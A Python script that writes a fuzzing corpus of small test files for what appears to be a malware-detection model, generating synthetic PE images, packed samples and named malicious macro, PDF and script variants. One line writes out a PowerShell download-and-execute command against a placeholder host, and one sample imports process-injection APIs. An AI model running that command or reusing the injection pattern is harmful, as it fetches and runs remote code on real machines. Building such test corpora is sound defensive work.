#!/usr/bin/env python3
"""Writes tests/fuzz/corpus/file_features: one small file of each technique that is told apart, as tools/malware_model makes them."""

import pathlib
import random
import sys

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tools/malware_model/samples"))

import harmless_scripts  # noqa: E402
import macros  # noqa: E402
import pdfs  # noqa: E402
import pe  # noqa: E402
import scripts  # noqa: E402

CORPUS = ROOT / "tests/fuzz/corpus/file_features"
TEXT, DATA = pe.CODE | pe.READ | pe.EXECUTE, pe.DATA | pe.READ


def programs():
    code = bytes(range(256)) * 4
    yield "pe_plain", pe.image([(".text", code, TEXT, 0), (".rdata", b"usage: x [options] file\0http://a.example/\0", DATA, 0)],
                               imports={"KERNEL32.dll": ["ExitProcess", "GetProcAddress"], "USER32.dll": ["MessageBoxW", 17]},
                               resources=b"r" * 600, debug=True, relocations=True, tls=True, signature=64)
    yield "pe_packed", pe.image([("UPX0", b"", TEXT | pe.WRITE, 90000), ("UPX1", random.Random(1).randbytes(900), TEXT | pe.WRITE, 0)],
                                imports={"KERNEL32.dll": ["LoadLibraryA", "GetProcAddress"]}, entry=1, is_64=False, overlay=b"o" * 300)
    yield "pe_library", pe.image([(".text", code, TEXT, 0)], imports={"ntdll.dll": ["NtUnmapViewOfSection"], "KERNEL32.dll": ["WriteProcessMemory", "CreateRemoteThread"]},
                                 exports=7, is_dll=True)


def main():
    CORPUS.mkdir(parents=True, exist_ok=True)
    for name, data in programs():
        (CORPUS / name).write_bytes(data)
    for module, names in ((macros, ("macro_shell", "macro_shellcode", "macro_stomped", "office_macros")), (pdfs, ("pdf_open_script", "pdf_packed_script", "pdf_launch", "pdf_escaped_names", "pdf_hidden_objects", "pdf_form")),
                          (scripts, ("js_packed", "ps_encoded", "ps_obfuscated", "bat_downloader", "sh_reverse")), (harmless_scripts, ("install_sh",))):
        for name in names:
            _, make = (getattr(module, "HARMFUL", {}) | getattr(module, "HARMLESS", {}))[name]
            found = [make(random.Random(f"{name} {i}")) for i in range(12)]
            if module is macros:  # one of each container
                for mark, kind in ((b"PK", "ooxml"), (b"\xd0\xcf", "ole")):
                    (CORPUS / f"{name}_{kind}").write_bytes(min((f for f in found if f[:2] == mark), key=len))
                continue
            data = min(found, key=len)
            (CORPUS / name).write_bytes(data if isinstance(data, bytes) else data.encode())
    (CORPUS / "wide_script").write_bytes(b"\xff\xfe" + "IEX (New-Object Net.WebClient).DownloadString('http://a.example/')".encode("utf-16-le"))


if __name__ == "__main__":
    main()
